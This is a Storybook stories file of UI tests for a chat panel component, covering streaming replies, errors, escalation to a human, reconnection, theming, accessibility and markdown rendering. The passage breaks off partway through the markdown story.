/**
 * Every state of the chat panel, each from a store seeded by replaying protocol frames
 * through the real reducer. No network: the play functions assert what each state shows.
 */
import type { Meta, StoryObj } from '@storybook/react-vite';
import { useEffect, useLayoutEffect, useState } from 'react';
import { expect, userEvent, waitFor, within } from 'storybook/test';
import { ChatLauncher } from '../src/components/chat-launcher.tsx';
import { ChatPanel } from '../src/components/chat-panel.tsx';
import type { ChatEvent } from '../src/core/reduce.ts';
import { ChatStoreProvider } from '../src/react/context.tsx';
import diagramPath from './chat-diagram.svg?no-inline';
import {
  assistantSaid,
  assistantStreaming,
  at,
  connected,
  connectionIn,
  frame,
  receiveFrame,
  receiveReply,
  Seeded,
  StoryFrame,
  seededStore,
  userSaid,
} from './seed.tsx';

const meta = {
  title: 'ChatPanel',
  component: ChatPanel,
} satisfies Meta<typeof ChatPanel>;

export default meta;
type Story = StoryObj<typeof meta>;

const ANSWER =
  'chatwire streams replies **token by token**, keeps your place while you scroll, and hands you to a person whenever you ask.';

/** What a reader sees of ANSWER: its words, the `**` markers turned into bold. */
const ANSWER_SHOWN =
  'chatwire streams replies token by token, keeps your place while you scroll, and hands you to a person whenever you ask.';

/** `element` shows ANSWER as rendered markdown: the words, no markers, the bold in <strong>. */
async function expectAnswerShown(element: Element | null | undefined) {
  await expect(element).toHaveTextContent(ANSWER_SHOWN);
  await expect(element).not.toHaveTextContent('**');
  const bold = element?.querySelectorAll('strong') ?? [];
  await expect(bold).toHaveLength(1);
  await expect(bold[0]?.textContent).toBe('token by token');
}

const conversation = (): ChatEvent[] => [
  ...connected(),
  userSaid('user:1', 'What does chatwire do?'),
  ...assistantSaid('msg_1', ANSWER),
];

/** The seeded conversation in a default panel: the starting point of the interaction stories. */
function ConversationPanel() {
  return (
    <Seeded events={conversation()}>
      <ChatPanel />
    </Seeded>
  );
}

export const Empty: Story = {
  render: () => (
    <Seeded events={[]}>
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('log', { name: 'Conversation' })).toHaveTextContent(
      'Ask anything to get started.',
    );
    await expect(canvas.getByRole('status')).toHaveTextContent('Not connected');
    await expect(canvas.getByRole('button', { name: 'Talk to a human' })).toBeDisabled();
  },
};

export const Welcome: Story = {
  render: () => (
    <Seeded events={connected()}>
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('status')).toHaveTextContent('Connected');
    await expect(canvas.getByText('Connected to chatbot server')).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Talk to a human' })).toBeEnabled();
  },
};

export const Conversation: Story = {
  render: () => <ConversationPanel />,
  play: async ({ canvasElement }) => {
    const log = within(canvasElement).getByRole('log');
    await expect(within(log).getByText('What does chatwire do?')).toBeVisible();
    const reply = log.querySelector('[data-role="assistant"]');
    await expect(reply).toHaveAttribute('data-status', 'complete');
    await expectAnswerShown(reply);
  },
};

export const StreamingReply: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Tell me more'),
        ...assistantSaid('msg_2', 'Here is what I', false),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = canvasElement.querySelector('[data-role="assistant"]');
    await expect(reply).toHaveAttribute('data-status', 'streaming');
    // Marked busy while it streams; the announcer speaks it once it is complete.
    await expect(reply).toHaveAttribute('aria-busy', 'true');
    await expect(reply).toHaveTextContent('Here is what I');
  },
};

/** A scripted in-page server streams a reply, a token every 60 ms. */
function LiveStream() {
  const [store] = useState(() =>
    seededStore([...connected(), userSaid('user:1', 'Stream something')]),
  );
  useEffect(() => {
    const tokens = ANSWER.match(/\S+\s*/g) ?? [];
    const receive = (payload: { type: string } & Record<string, string>) =>
      receiveFrame(store, payload);
    receive({ type: 'stream-start', messageId: 'msg_live' });
    let index = 0;
    const timer = setInterval(() => {
      const token = tokens[index++];
      if (token === undefined) {
        receive({ type: 'stream-end', messageId: 'msg_live' });
        clearInterval(timer);
      } else {
        receive({ type: 'stream-token', messageId: 'msg_live', token });
      }
    }, 60);
    return () => clearInterval(timer);
  }, [store]);
  return (
    <StoryFrame store={store}>
      <ChatPanel />
    </StoryFrame>
  );
}

export const StreamingAnimated: Story = {
  render: () => <LiveStream />,
  play: async ({ canvasElement }) => {
    const reply = () => canvasElement.querySelector('[data-role="assistant"]');
    const announced = () =>
      canvasElement.querySelector('[data-slot="announcer"]')?.textContent ?? '';
    await waitFor(() => expect(reply()).toHaveAttribute('data-status', 'streaming'));
    await waitFor(() => expect(reply()?.textContent).toContain('token'));
    // Mid-stream, screen readers are told nothing: the log is not live, the announcer waits.
    await expect(canvasElement.querySelector('[role="log"]')).toHaveAttribute('aria-live', 'off');
    await expect(announced()).not.toContain('token');
    await waitFor(() => expect(reply()).toHaveAttribute('data-status', 'complete'), {
      timeout: 5000,
    });
    await expectAnswerShown(reply());
    // Then the whole reply is announced, once, as the words it shows: no markdown markers.
    // (The words are worked out when the page is next idle.)
    await waitFor(() => expect(announced()).toBe(`Assistant: ${ANSWER_SHOWN}`));
  },
};

export const SendingAMessage: Story = {
  render: () => {
    const sent: unknown[] = [];
    return (
      <div>
        <Seeded events={connected()} sent={sent}>
          <ChatPanel />
        </Seeded>
        <SentFrames sent={sent} />
      </div>
    );
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const input = canvas.getByRole('textbox', { name: 'Message' });
    await userEvent.type(input, '  Hello there  {Enter}');
    await expect(input).toHaveValue('');
    const message = canvasElement.querySelector('[data-role="user"]');
    await expect(message).toHaveTextContent('Hello there');
    await expect(message).toHaveAttribute('data-status', 'sent');
    await userEvent.click(canvas.getByRole('button', { name: 'Show sent frames' }));
    await expect(canvas.getByTestId('sent-frames')).toHaveTextContent(
      '"type":"chat","content":"Hello there"',
    );
  },
};

/** Shows the frames a story's store handed to its transport, on demand. */
function SentFrames({ sent }: { sent: unknown[] }) {
  const [shown, setShown] = useState('');
  return (
    <div style={{ marginTop: 8, fontSize: 12 }}>
      <button
        type="button"
        onClick={() => setShown(sent.map((item) => JSON.stringify(item)).join('\n'))}
      >
        Show sent frames
      </button>
      <pre data-testid="sent-frames">{shown}</pre>
    </div>
  );
}

export const ErrorBanner: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        frame({
          type: 'error',
          message: 'The assistant is overloaded. Please try again.',
          timestamp: at(),
        }),
        frame({
          type: 'error',
          message: 'The assistant is overloaded. Please try again.',
          timestamp: at(),
        }),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const alert = canvas.getByRole('alert');
    await expect(alert).toHaveTextContent('The assistant is overloaded. Please try again.×2');
    await userEvent.click(within(alert).getByRole('button', { name: 'Dismiss' }));
    await expect(canvas.queryByRole('alert')).toBeNull();
    // The dismissed button's focus is not lost to the page: it moves to the composer.
    await expect(canvas.getByRole('textbox', { name: 'Message' })).toHaveFocus();
  },
};

export const EscalationRequested: Story = {
  render: () => (
    <Seeded
      events={[
        ...conversation(),
        { type: 'escalation-requested', reason: 'Need human assistance', at: at() },
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const button = within(canvasElement).getByRole('button', { name: 'Asking for a person…' });
    await expect(button).toHaveAttribute('data-state', 'requested');
    await expect(button).toBeDisabled();
  },
};

export const EscalationAcknowledged: Story = {
  render: () => (
    <Seeded
      events={[
        ...conversation(),
        { type: 'escalation-requested', reason: 'Need human assistance', at: at() },
        frame({
          type: 'human-escalation-response',
          message: 'A human agent will contact you soon.',
          timestamp: at(),
        }),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('button', { name: 'A person is on the way' })).toHaveAttribute(
      'data-state',
      'acknowledged',
    );
    await expect(
      within(canvas.getByRole('log')).getByText('A human agent will contact you soon.'),
    ).toBeVisible();
  },
};

export const EscalatingByClick: Story = {
  render: () => {
    const sent: unknown[] = [];
    return (
      <div>
        <Seeded events={conversation()} sent={sent}>
          <ChatPanel />
        </Seeded>
        <SentFrames sent={sent} />
      </div>
    );
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const button = canvas.getByRole('button', { name: 'Talk to a human' });
    await userEvent.click(button);
    await expect(button).toHaveAttribute('aria-expanded', 'true');
    const reason = canvas.getByRole('textbox', { name: 'What do you need help with? (optional)' });
    await expect(reason).toHaveFocus();
    await userEvent.type(reason, 'Billing question');
    await userEvent.click(canvas.getByRole('button', { name: 'Ask for a person' }));
    const requested = canvas.getByRole('button', { name: 'Asking for a person…' });
    await expect(requested).toBeDisabled();
    await expect(canvas.getByRole('textbox', { name: 'Message' })).toHaveFocus();
    await expect(requested).toHaveAttribute('data-state', 'requested');
    await userEvent.click(canvas.getByRole('button', { name: 'Show sent frames' }));
    await expect(canvas.getByTestId('sent-frames')).toHaveTextContent(
      '"type":"human-escalation","reason":"Billing question"',
    );
  },
};

export const EscalationCancelledWithEscape: Story = {
  render: () => <ConversationPanel />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const button = canvas.getByRole('button', { name: 'Talk to a human' });
    await userEvent.click(button);
    await userEvent.keyboard('{Escape}');
    await expect(canvas.queryByRole('group')).toBeNull();
    await expect(button).toHaveFocus();
    await expect(button).toHaveAttribute('data-state', 'idle');
  },
};

export const WithoutEscalation: Story = {
  render: () => (
    <Seeded events={conversation()}>
      <ChatPanel showEscalation={false} />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    await expect(
      within(canvasElement).queryByRole('button', { name: 'Talk to a human' }),
    ).toBeNull();
  },
};

/** The server reported an error while the reply streamed, then ended it: its AI backend failed. */
export const ReplyCutByServerError: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Summarise the report'),
        ...assistantSaid('msg_9', 'The report covers three', false),
        frame({
          type: 'error',
          message: 'The reply msg_9 could not be completed',
          timestamp: at(),
        }),
        frame({ type: 'stream-end', messageId: 'msg_9', timestamp: at() }),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const reply = canvasElement.querySelector('[data-role="assistant"]');
    await expect(reply).toHaveAttribute('data-status', 'interrupted');
    await expect(reply).toHaveTextContent('The server could not finish this reply.');
    await expect(canvas.getByRole('button', { name: 'Ask again' })).toBeVisible();
    await expect(canvas.getByRole('alert')).toHaveTextContent('could not be completed');
  },
};

export const ReconnectingWithInterruptedReply: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Explain backoff'),
        ...assistantSaid('msg_3', 'Backoff spreads retries so that', false),
        connectionIn('reconnecting'),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('status')).toHaveTextContent('Connection lost. Reconnecting…');
    const reply = canvasElement.querySelector('[data-role="assistant"]');
    await expect(reply).toHaveAttribute('data-status', 'interrupted');
    await expect(reply).toHaveTextContent('Backoff spreads retries so that');
    await expect(reply).toHaveTextContent('Reply interrupted by a lost connection.');
    // "Ask again" sends the question once more, queued until the connection is back.
    await userEvent.click(canvas.getByRole('button', { name: 'Ask again' }));
    const questions = canvasElement.querySelectorAll('[data-role="user"]');
    await expect(questions).toHaveLength(2);
    await expect(questions[1]).toHaveTextContent('Explain backoff');
    await expect(questions[1]).toHaveAttribute('data-status', 'queued');
  },
};

export const OfflineWithQueuedMessage: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        connectionIn('offline'),
        {
          type: 'user-message-added',
          id: 'user:q',
          text: 'Are you there?',
          status: 'queued',
          at: at(),
        },
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('status')).toHaveTextContent('You are offline');
    const queued = canvasElement.querySelector('[data-role="user"]');
    await expect(queued).toHaveAttribute('data-status', 'queued');
    await expect(queued).toHaveTextContent('Waiting for the connection to send');
  },
};

export const Unauthorized: Story = {
  render: () => (
    <Seeded
      events={[
        frame({ type: 'error', message: 'Authentication failed: token expired', timestamp: at() }),
        connectionIn('unauthorized'),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('status')).toHaveTextContent('Sign-in required');
    await expect(canvas.getByRole('alert')).toHaveTextContent(
      'Authentication failed: token expired',
    );
    await expect(canvas.getByRole('button', { name: 'Talk to a human' })).toBeDisabled();
    const input = canvas.getByRole('textbox', { name: 'Message' });
    await expect(input).toBeDisabled();
    await expect(input).toHaveAccessibleDescription('Sign in to send messages.');
  },
};

/**
 * A host page's own stylesheet: plain, unlayered CSS, as an app without Tailwind writes it.
 * It goes first in <head>, before chatwire's stylesheet, to show that load order does not
 * matter: chatwire's classes sit in the `components` cascade layer, and unlayered rules beat
 * every layer.
 */
const HOST_CSS = `
.host-square { border-radius: 0; }
.host-user-bubble { background-color: #047857; color: #fff; }
`;

function HostStylesheet({ css }: { css: string }) {
  useLayoutEffect(() => {
    const style = document.createElement('style');
    style.dataset.hostStylesheet = '';
    style.textContent = css;
    document.head.prepend(style);
    return () => style.remove();
  }, [css]);
  return null;
}

export const CustomLabelsAndClasses: Story = {
  render: () => (
    <>
      <HostStylesheet css={HOST_CSS} />
      <Seeded events={conversation()}>
        <ChatPanel
          labels={{ title: 'Support', send: 'Envoyer' }}
          classNames={{ root: 'host-square', userMessage: 'host-user-bubble' }}
        />
      </Seeded>
    </>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('region', { name: 'Support' })).toBeVisible();
    await expect(canvas.getByRole('button', { name: 'Envoyer' })).toBeVisible();
    // The host's sheet loaded before chatwire's: a tie on specificity would go to chatwire.
    const hostSheet = document.querySelector('style[data-host-stylesheet]');
    const chatwireSheet = [...document.styleSheets].find((sheet) =>
      [...sheet.cssRules].some((rule) => rule.cssText.includes('--chatwire-radius-panel')),
    )?.ownerNode;
    await expect(chatwireSheet).toBeTruthy();
    await expect(
      (hostSheet?.compareDocumentPosition(chatwireSheet as Node) ?? 0) &
        Node.DOCUMENT_POSITION_FOLLOWING,
    ).toBeTruthy();
    // chatwire's classes stay on the elements; the host's unlayered rules win anyway.
    const root = canvasElement.querySelector('[data-slot="root"]') as HTMLElement;
    await expect(root.className).toContain('cw:panel');
    await expect(root).toHaveClass('host-square');
    await expect(getComputedStyle(root).borderTopLeftRadius).toBe('0px');
    await expect(getComputedStyle(root).borderBottomRightRadius).toBe('0px');
    const userBubble = canvasElement.querySelector('[data-role="user"] > div') as HTMLElement;
    await expect(userBubble).toHaveClass('host-user-bubble');
    await expect(getComputedStyle(userBubble).backgroundColor).toBe('rgb(4, 120, 87)');
    await expect(getComputedStyle(userBubble).color).toBe('rgb(255, 255, 255)');
    // Parts the host did not restyle keep chatwire's defaults.
    const replyBubble = canvasElement.querySelector('[data-role="assistant"] > div') as HTMLElement;
    await expect(getComputedStyle(replyBubble).borderTopLeftRadius).toBe('12px');
    await expect(getComputedStyle(replyBubble).backgroundColor).not.toBe('rgb(4, 120, 87)');
  },
};

export const ReconnectingWithCountdown: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        // The countdown runs on the real clock, so the retry is set relative to it.
        connectionIn('reconnecting', { failures: 3, retryAt: Date.now() + 12_000 }),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('status')).toHaveTextContent('Connection lost. Reconnecting…');
    await expect(canvasElement).toHaveTextContent(/Reconnecting in 1[12]s/);
    await expect(canvas.getByRole('button', { name: 'Reconnect now' })).toBeEnabled();
  },
};

export const DisconnectedAfterGivingUp: Story = {
  render: () => (
    <Seeded events={[...connected(), connectionIn('closed', { failures: 10 })]}>
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('status')).toHaveTextContent('Disconnected');
    await expect(canvas.getByRole('button', { name: 'Reconnect now' })).toBeVisible();
  },
};

export const SessionExpired: Story = {
  render: () => (
    <Seeded events={[...conversation(), connectionIn('unauthorized', { authProblem: 'expired' })]}>
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    await expect(canvas.getByRole('status')).toHaveTextContent('Session expired');
    await expect(canvas.getByRole('alert')).toHaveTextContent(
      'Your session has expired. Sign in again to keep chatting.',
    );
  },
};

export const FailedMessageWithRetry: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:lost', 'Did this reach you?'),
        connectionIn('reconnecting'),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const message = () => canvasElement.querySelector('[data-role="user"]');
    await expect(message()).toHaveAttribute('data-status', 'failed');
    await expect(message()).toHaveTextContent('may not have been delivered');
    await userEvent.click(within(canvasElement).getByRole('button', { name: 'Retry' }));
    // Not connected yet: the retried message waits in the queue, in order.
    await expect(message()).toHaveAttribute('data-status', 'queued');
    await expect(within(canvasElement).getByRole('textbox', { name: 'Message' })).toHaveFocus();
  },
};

export const StalledReply: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Still there?'),
        ...assistantSaid('msg_stall', 'Let me think about', false),
        { type: 'stalled-streams-checked', at: at(600), stallTimeoutMs: 60_000 },
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = canvasElement.querySelector('[data-role="assistant"]');
    await expect(reply).toHaveAttribute('data-status', 'interrupted');
    await expect(reply).toHaveTextContent('Let me think about');
    await expect(reply).toHaveTextContent('Reply stopped arriving.');
  },
};

export const DarkTheme: Story = {
  render: () => (
    <div style={{ background: '#0b0d12', padding: 12 }}>
      <Seeded
        events={[
          ...conversation(),
          frame({
            type: 'error',
            message: 'The assistant is overloaded. Please try again.',
            timestamp: at(),
          }),
        ]}
      >
        <ChatPanel theme="dark" />
      </Seeded>
    </div>
  ),
  play: async ({ canvasElement }) => {
    const root = canvasElement.querySelector<HTMLElement>('[data-slot="root"]');
    await expect(root).toHaveAttribute('data-theme', 'dark');
    const style = getComputedStyle(root as HTMLElement);
    await expect(style.colorScheme).toBe('dark');
    // The surface token resolved to its dark value, not white.
    await expect(style.backgroundColor).not.toBe('rgb(255, 255, 255)');
  },
};

export const RightToLeft: Story = {
  render: () => (
    <Seeded events={[...connected(), userSaid('user:1', 'مرحبا، كيف يمكنني المساعدة؟')]}>
      <ChatPanel dir="rtl" labels={{ title: 'الدردشة', send: 'إرسال', messageInput: 'رسالة' }} />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const root = canvasElement.querySelector<HTMLElement>('[data-slot="root"]');
    await expect(root).toHaveAttribute('dir', 'rtl');
    await expect(canvas.getByRole('textbox', { name: 'رسالة' })).toBeVisible();
    // The user's bubble sits at the inline end, which in RTL is the left.
    const bubble = canvasElement.querySelector<HTMLElement>('[data-role="user"] > div');
    const log = canvas.getByRole('log').getBoundingClientRect();
    const box = bubble?.getBoundingClientRect();
    await expect(box && box.left - log.left).toBeLessThan(log.right - (box?.right ?? 0));
  },
};

export const ComposerNearLengthLimit: Story = {
  render: () => (
    <Seeded events={connected()}>
      <ChatPanel maxMessageLength={20} />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const input = canvas.getByRole('textbox', { name: 'Message' });
    await userEvent.type(input, 'fifteen chars..');
    await expect(canvasElement.querySelector('[data-slot="character-count"]')).toBeNull();
    await userEvent.type(input, '!!');
    await expect(input).toHaveAccessibleDescription('3 characters left');
    // The limit holds: typing past it adds nothing.
    await userEvent.type(input, 'more text');
    await expect(input).toHaveValue('fifteen chars..!!mor');
    await expect(input).toHaveAccessibleDescription('0 characters left');
  },
};

export const TypingIndicator: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Hello?'),
        ...assistantSaid('msg_wait', '', false),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = canvasElement.querySelector('[data-role="assistant"]');
    await expect(reply).toHaveAttribute('data-status', 'streaming');
    await expect(reply?.querySelector('[data-slot="typing-indicator"]')).toBeVisible();
  },
};

const longConversation = (): ChatEvent[] => [
  ...connected(),
  ...Array.from({ length: 25 }, (_, index) => [
    userSaid(`user:${index}`, `Question number ${index + 1}?`),
    ...assistantSaid(
      `msg_long_${index}`,
      `Answer number ${index + 1}, with a few more words to wrap.`,
    ),
  ]).flat(),
];

/**
 * A history of 1,000 messages: the latest 40 show at once, older ones fill in a page of 40 at
 * a time while the browser is idle, and the list stays one list to assistive tech.
 */
export const LongHistory: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        ...Array.from({ length: 500 }, (_, index) => [
          userSaid(`user:${index}`, `Question number ${index + 1}?`),
          ...assistantSaid(`msg_history_${index}`, `Answer number ${index + 1}, in **markdown**.`),
        ]).flat(),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const log = canvas.getByRole('log');
    const replies = log.querySelectorAll('[data-role="assistant"]');
    await expect(replies[replies.length - 1]).toHaveTextContent('Answer number 500, in markdown.');
    const items = () =>
      log.querySelectorAll('[role="listitem"]:is([data-role="user"], [data-role="assistant"])')
        .length;
    await waitFor(() => expect(items()).toBe(1000), { timeout: 10_000 });
    await expect(within(log).getAllByRole('list')[0]).toContainElement(
      canvas.getByText('Question number 1?'),
    );
    // Still pinned to the latest message once the older ones are in.
    await expect(log.scrollHeight - log.scrollTop - log.clientHeight).toBeLessThan(30);
  },
};

/** A long conversation plus a button that plays the server sending one more reply. */
function LongConversationWithIncoming() {
  const [store] = useState(() => seededStore(longConversation()));
  const [replies, setReplies] = useState(0);
  const receiveAnother = () => {
    receiveReply(store, `msg_incoming_${replies}`, 'A reply that arrived while you were reading.');
    setReplies((count) => count + 1);
  };
  return (
    <div>
      <StoryFrame store={store}>
        <ChatPanel />
      </StoryFrame>
      <button type="button" onClick={receiveAnother} style={{ marginTop: 8 }}>
        Receive a reply
      </button>
    </div>
  );
}

export const LongConversationWithNewMessagesPill: Story = {
  render: () => <LongConversationWithIncoming />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const log = canvas.getByRole('log');
    // Starts at the latest message.
    await waitFor(() =>
      expect(log.scrollHeight - log.scrollTop - log.clientHeight).toBeLessThan(30),
    );
    log.scrollTop = 0;
    log.dispatchEvent(new Event('scroll'));
    await userEvent.click(canvas.getByRole('button', { name: 'Receive a reply' }));
    await userEvent.click(canvas.getByRole('button', { name: 'Receive a reply' }));
    // Reading further up is never interrupted: the view stays put and a pill counts the news.
    await expect(log.scrollTop).toBe(0);
    const pill = await canvas.findByRole('button', { name: '2 new messages ↓' });
    await userEvent.click(pill);
    await waitFor(() =>
      expect(log.scrollHeight - log.scrollTop - log.clientHeight).toBeLessThan(30),
    );
    await waitFor(() => expect(canvas.queryByRole('button', { name: /new message/ })).toBeNull());
  },
};

/** The launcher around a seeded panel, with a button that plays a reply arriving. */
function LauncherWithIncoming() {
  const [store] = useState(() => seededStore(conversation()));
  const [count, setCount] = useState(0);
  const receiveAnother = () => {
    receiveReply(store, `msg_badge_${count}`, 'Here is the answer you were waiting for.');
    setCount((value) => value + 1);
  };
  return (
    <ChatStoreProvider store={store}>
      <button type="button" onClick={receiveAnother}>
        Receive a reply
      </button>
      <ChatLauncher>
        <ChatPanel />
      </ChatLauncher>
    </ChatStoreProvider>
  );
}

export const LauncherClosedWithBadge: Story = {
  render: () => <LauncherWithIncoming />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement.ownerDocument.body);
    const launcher = canvas.getByRole('button', { name: 'Open chat' });
    await expect(launcher).toHaveAttribute('aria-expanded', 'false');
    // Replies that arrive while closed show on the badge and in the button's name.
    await userEvent.click(canvas.getByRole('button', { name: 'Receive a reply' }));
    await userEvent.click(canvas.getByRole('button', { name: 'Receive a reply' }));
    await expect(canvas.getByRole('button', { name: 'Open chat, 2 unread replies' })).toBeVisible();
    await expect(
      canvasElement.ownerDocument.querySelector('[data-slot="unread-badge"]'),
    ).toHaveTextContent('2');
    await expect(canvas.queryByRole('dialog')).toBeNull();
  },
};

export const LauncherOpen: Story = {
  render: () => <LauncherWithIncoming />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement.ownerDocument.body);
    await userEvent.click(canvas.getByRole('button', { name: 'Receive a reply' }));
    const launcher = canvas.getByRole('button', { name: 'Open chat, 1 unread reply' });
    await userEvent.click(launcher);
    const dialog = canvas.getByRole('dialog', { name: 'Chat' });
    await expect(dialog).toBeVisible();
    // Focus moved into the panel, and opening it read the unread replies.
    await waitFor(() => expect(dialog.contains(document.activeElement)).toBe(true));
    await expect(canvas.getByRole('button', { name: 'Open chat' })).toBeInTheDocument();
    await expect(
      within(dialog).getByText('Here is the answer you were waiting for.'),
    ).toBeVisible();

    await userEvent.keyboard('{Escape}');
    await waitFor(() => expect(canvas.queryByRole('dialog')).toBeNull());
    await expect(launcher).toHaveFocus();
    // The dialog's `close` event, which updates the button, follows the close by a task.
    await waitFor(() => expect(launcher).toHaveAttribute('aria-expanded', 'false'));
  },
};

export const CustomMessageRendering: Story = {
  render: () => (
    <Seeded events={conversation()}>
      <ChatPanel
        renderMessage={(message, renderDefault) =>
          message.role === 'assistant' ? (
            <div
              data-testid="custom-bubble"
              style={{ display: 'flex', gap: 8, alignItems: 'flex-start' }}
            >
              <span role="img" aria-label="Bot avatar">
                🤖
              </span>
              {renderDefault()}
            </div>
          ) : (
            renderDefault()
          )
        }
      />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const custom = canvas.getByTestId('custom-bubble');
    await expect(within(custom).getByRole('img', { name: 'Bot avatar' })).toBeVisible();
    // The default bubble inside the host's wrapper still renders the reply's markdown.
    await expectAnswerShown(custom);
    // Other messages keep chatwire's rendering, and the transcript is still one list.
    await expect(canvas.getByText('What does chatwire do?')).toBeVisible();
    const list = within(canvas.getByRole('log')).getAllByRole('list')[0] as HTMLElement;
    await expect(list.querySelectorAll('[role="listitem"]')).toHaveLength(3);
  },
};

export const NarrowMobileViewport: Story = {
  render: () => (
    <div style={{ width: 320 }}>
      <Seeded
        events={[
          ...conversation(),
          frame({ type: 'error', message: 'Something went wrong.', timestamp: at() }),
        ]}
      >
        <ChatPanel />
      </Seeded>
    </div>
  ),
  play: async ({ canvasElement }) => {
    const root = canvasElement.querySelector<HTMLElement>('[data-slot="root"]');
    await expect(root?.getBoundingClientRect().width).toBeLessThanOrEqual(320);
    // Nothing overflows sideways at phone width.
    await expect(root?.scrollWidth).toBeLessThanOrEqual(root?.clientWidth ?? 0);
    await expect(within(canvasElement).getByRole('button', { name: 'Send' })).toBeVisible();
  },
};

/** The `index`-th assistant reply in the transcript; the last one by default. */
const replyIn = (canvasElement: HTMLElement, index = -1) =>
  [...canvasElement.querySelectorAll<HTMLElement>('[data-role="assistant"]')].at(index) as
    | HTMLElement
    | undefined;

/** Every link in `element` points at a web or mail address: no script, data or relative URL. */
async function expectOnlySafeLinks(element: HTMLElement) {
  for (const link of element.querySelectorAll('a')) {
    await expect(link.getAttribute('href')).toMatch(/^(?:https?:\/\/|mailto:)/);
  }
}

/** A link out of the conversation: opens in a new tab, says so, and leaks nothing. */
async function expectExternalLink(link: HTMLElement, href: string) {
  await expect(link).toHaveAttribute('href', href);
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc');
  await expect(link).toHaveAccessibleName(/\(opens in a new tab\)$/);
}

export const MarkdownHeavyReply: Story = {
  render: () => (
    <Seeded
      events={[
        ...connected(),
        userSaid('user:1', 'Give me a formatted answer'),
        ...assistantSaid(
          'msg_md',
          '## Steps\n\n1. **Install** with `npm install chatwire`\n2. Import the *styles*\n\n```tsx\n<ChatWidget token={jwt} />\n```\n\n> Tip: see [the docs](https://example.com).',
        ),
      ]}
    >
      <ChatPanel />
    </Seeded>
  ),
  play: async ({ canvasElement }) => {
    const reply = replyIn(canvasElement) as HTMLElement;
    await expect(reply).toHaveAttribute('data-status', 'complete');
    const inReply = within(reply);
    // `##` is a level-3 heading: the panel's title is the h2, replies nest right below it.
    await expect(inReply.getByRole('heading', { level: 3, name: 'Steps' })).toBeVisible();
    await expect(reply.querySelector('h1, h2, h4')).toBeNull();
    const steps = reply.querySelectorAll('ol > li');
    await expect(steps).toHaveLength(2);
    await expect(steps[0]).toHaveTextContent('Install with npm install chatwire');
    await expect(steps[0]?.querySelector('strong')).toHaveTextContent('Install');
    await expect(steps[0]?.querySelector('code')).toHaveTextContent('npm install chatwire');
    await expect(steps[1]?.querySelector('em')).toHaveTextContent('styles');
    // The fenced block is code, shown as text: JSX in a reply never becomes an element.
    const block = reply.querySelector('pre[data-slot="code-block"]');
    await expect(block).toHaveAttribute('data-language', 'tsx');
    await expect(block?.textContent).toBe('<ChatWidget token={jwt} />');
    await expect(reply.querySelector('chatwidget')).toBeNull();
    const quote = reply.querySelector('blockquote') as HTMLElement;
    await expect(quote).toHaveTextContent('Tip: see the docs');
    const link = within(quote).getByRole('link', { name: 'the docs (opens in a new tab)' });
    await expectExternalLink(link, 'https://example.com/');
